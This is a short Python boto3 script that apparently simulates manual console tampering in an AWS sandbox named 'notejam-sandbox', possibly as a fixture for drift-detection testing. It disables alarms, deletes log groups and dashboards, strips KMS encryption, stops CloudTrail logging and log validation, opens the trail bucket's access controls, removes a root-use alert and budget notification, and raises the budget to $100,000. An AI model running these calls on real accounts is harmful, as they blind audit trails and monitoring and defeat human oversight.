"""What a person in the console might do to logs, alerts and alarms, to the trail and to the budget."""

from __future__ import annotations

import boto3


def main() -> None:
    cloudwatch, logs, sns = boto3.client("cloudwatch"), boto3.client("logs"), boto3.client("sns")
    cloudwatch.disable_alarm_actions(AlarmNames=["notejam-sandbox-backup-age"])
    cloudwatch.delete_dashboards(DashboardNames=["notejam-sandbox-eu-west-1"])
    logs.delete_retention_policy(logGroupName="/aws/eks/notejam-sandbox/cluster")
    logs.disassociate_kms_key(logGroupName="/aws/rds/cluster/notejam-sandbox/postgresql")
    logs.delete_log_group(logGroupName="/aws/containerinsights/notejam-sandbox/host")
    for topic in sns.list_topics()["Topics"]:
        sns.set_topic_attributes(
            TopicArn=topic["TopicArn"], AttributeName="KmsMasterKeyId", AttributeValue=""
        )
    blind_the_trail()
    spend_more()


def blind_the_trail() -> None:
    cloudtrail, s3 = boto3.client("cloudtrail"), boto3.client("s3")
    (trail,) = cloudtrail.describe_trails()["trailList"]
    name, bucket = trail["Name"], trail["S3BucketName"]
    cloudtrail.stop_logging(Name=name)
    cloudtrail.update_trail(Name=name, EnableLogFileValidation=False, KmsKeyId="")
    cloudtrail.put_event_selectors(TrailName=name, EventSelectors=[{"ReadWriteType": "ReadOnly"}])
    s3.delete_public_access_block(Bucket=bucket)
    s3.delete_bucket_policy(Bucket=bucket)
    s3.delete_bucket_lifecycle(Bucket=bucket)
    group = f"/aws/cloudtrail/{name}"
    boto3.client("logs").delete_metric_filter(logGroupName=group, filterName="root-use")
    boto3.client("cloudwatch").disable_alarm_actions(AlarmNames=["notejam-sandbox-trail-changes"])


def spend_more() -> None:
    budgets, account = (
        boto3.client("budgets", "us-east-1"),
        boto3.client("sts").get_caller_identity()["Account"],
    )
    (budget,) = budgets.describe_budgets(AccountId=account)["Budgets"]
    which = {"AccountId": account, "BudgetName": budget["BudgetName"]}
    told = budgets.describe_notifications_for_budget(**which)["Notifications"]
    budgets.delete_notification(**which, Notification=told[0])
    limit = {"Amount": "100000", "Unit": "USD"}
    kept = {key: budget[key] for key in ("BudgetName", "BudgetType", "TimeUnit")}
    budgets.update_budget(AccountId=account, NewBudget={**kept, "BudgetLimit": limit})


if __name__ == "__main__":
    main()
